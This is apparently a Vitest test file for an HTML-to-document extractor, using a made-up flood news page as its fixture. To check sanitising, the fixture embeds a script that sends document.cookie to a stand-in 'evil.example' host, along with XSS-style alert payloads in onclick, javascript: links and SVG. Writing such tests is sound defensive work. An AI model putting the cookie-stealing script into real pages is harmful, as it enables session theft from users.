import { describe, expect, it } from 'vitest'
import { htmlToDocument } from './html'

const page = `<!doctype html>
<html><head>
  <title>Floodwater closes Port Averly &amp; rail line</title>
  <meta name="author" content="Mara Quist">
  <meta property="article:published_time" content="2025-03-04T07:15:00Z">
  <meta property="og:site_name" content="The Averly Ledger">
  <style>body { background: url(http://tracker.example/x.png) }</style>
  <script>fetch('http://evil.example/steal?c=' + document.cookie)</script>
  <link rel="stylesheet" href="https://cdn.example/site.css">
</head><body>
  <nav><a href="/">Home</a> <a href="/news">News</a></nav>
  <article>
    <h1>Floodwater closes Port Averly</h1>
    <p>The Averly river rose <b>two metres</b> overnight,
       flooding the lower town.</p>
    <p onclick="alert(1)">Officials said repairs would take <a href="javascript:alert(2)">weeks</a>.</p>
    <ul><li>Ferries cancelled</li><li>Schools closed<ul><li>Until Friday</li></ul></li></ul>
    <blockquote>“We have never seen it this high,” said a harbour pilot.</blockquote>
    <iframe src="https://ads.example/frame"></iframe>
    <noscript><img src="https://pixel.example/p.gif"></noscript>
    <p>Line one<br>Line two</p>
  </article>
  <svg><script>alert(3)</script><text>SVG text</text></svg>
</body></html>`

describe('htmlToDocument', () => {
  const doc = htmlToDocument(page)
  const blockTexts = doc.blocks.map((b) => [b.kind, doc.text.slice(b.start, b.end), b.level])

  it('keeps the article as headings, paragraphs, list items and quotes', () => {
    expect(blockTexts).toEqual([
      ['heading', 'Floodwater closes Port Averly', 1],
      [
        'paragraph',
        'The Averly river rose two metres overnight, flooding the lower town.',
        undefined
      ],
      ['paragraph', 'Officials said repairs would take weeks.', undefined],
      ['list-item', 'Ferries cancelled', 1],
      ['list-item', 'Schools closed', 1],
      ['list-item', 'Until Friday', 2],
      ['quote', '“We have never seen it this high,” said a harbour pilot.', undefined],
      ['paragraph', 'Line one\nLine two', undefined]
    ])
  })

  it('drops scripts, styles, frames, navigation and their contents', () => {
    for (const bad of [
      'fetch(',
      'cookie',
      'background',
      'alert',
      'Home',
      'SVG text',
      'tracker',
      'pixel',
      'ads.example',
      'javascript:'
    ]) {
      expect(doc.text).not.toContain(bad)
    }
  })

  it('reads title, author, date and publisher from the head', () => {
    expect(doc.hints).toEqual({
      title: 'Floodwater closes Port Averly & rail line',
      author: 'Mara Quist',
      published: '2025-03-04',
      source: 'The Averly Ledger'
    })
  })

  it('decodes entities and survives broken markup', () => {
    const broken = htmlToDocument(
      '<p>Fish &amp; chips &lt;3 <b>unclosed <i>tags<p>Next &#8220;para&#8221;'
    )
    expect(broken.text).toBe('Fish & chips <3 unclosed tags\n\nNext “para”')
  })

  it('finds the date in a <time> element when the head has none', () => {
    expect(
      htmlToDocument('<p>Posted <time datetime="2024-12-01">Dec 1</time></p>').hints.published
    ).toBe('2024-12-01')
  })
})
